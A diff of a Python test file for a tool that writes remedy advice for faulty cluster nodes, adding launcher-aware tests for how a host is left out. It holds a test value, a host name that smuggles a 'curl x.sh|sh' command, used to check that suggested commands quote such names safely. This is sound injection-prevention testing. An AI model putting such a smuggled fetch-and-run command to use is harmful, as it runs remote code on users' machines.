@@ -13,11 +13,13 @@ from tests.explain.made import STEPS, found, job, ring
 from tests.replay.windows import late
 
 from allpull.explain.evidence.machine import Machine
+from allpull.explain.evidence.start import Start
 from allpull.explain.remedy_text import clocks, leave_out, quoted
 
 HOSTILE = "node1; curl x.sh|sh #"
 HOSTS = (HOSTILE, HOSTILE, "node2", "node2", "node3", "node3", "node4", "node4")
 MACHINE = Machine(hosts=HOSTS)
+ON_SLURM = Start(starter="run", launcher="slurm", on_slurm=True)
 
 
 @given(st.lists(st.text(), min_size=1))
@@ -28,14 +30,26 @@ def test_names_are_one_word_of_a_shell_whatever_is_in_them(names: list[str]) -> 
 
 
 def test_ordinary_names_stay_as_they_are() -> None:
-    assert leave_out(MACHINE, "node2", "node-3.cluster_a") == (
+    assert leave_out(ON_SLURM, MACHINE, "node2", "node-3.cluster_a") == (
         "; until it is repaired, leave it out: sbatch --exclude=node2,node-3.cluster_a"
     )
 
 
+@pytest.mark.parametrize(
+    ("start", "how"),
+    [
+        (Start(starter="train", launcher="ssh"), "delete node2 from the hosts file"),
+        (Start(starter="torchrun"), "torchrun --nnodes=3 on the others"),
+        (Start(starter="rehearsal"), "start on the hosts without node2"),
+    ],
+)
+def test_a_host_is_left_out_where_hosts_are_named(start: Start, how: str) -> None:
+    assert leave_out(start, MACHINE, "node2") == f"; until it is repaired, leave it out: {how}"
+
+
 def test_the_only_host_is_not_left_out() -> None:
-    assert leave_out(Machine(hosts=("node1", "node1")), "node1") == ""
-    assert leave_out(MACHINE, "") == ""
+    assert leave_out(ON_SLURM, Machine(hosts=("node1", "node1")), "node1") == ""
+    assert leave_out(ON_SLURM, MACHINE, "") == ""
 
 
 def test_no_rule_says_a_hostile_name_as_a_command() -> None:
@@ -53,7 +67,7 @@ def test_no_rule_says_a_hostile_name_as_a_command() -> None:
         (slow_host, MACHINE, "uneven-hosts"),
         (slow_rank, MACHINE, "slow-rank"),
     ):
-        (finding,) = found(one, machine).findings
+        (finding,) = found(one, machine, start=ON_SLURM).findings
         assert finding.rule == rule
         assert "sbatch --exclude='node1; curl x.sh|sh #'" in finding.remedy
         assert HOSTILE not in finding.remedy.replace(f"'{HOSTILE}'", "")
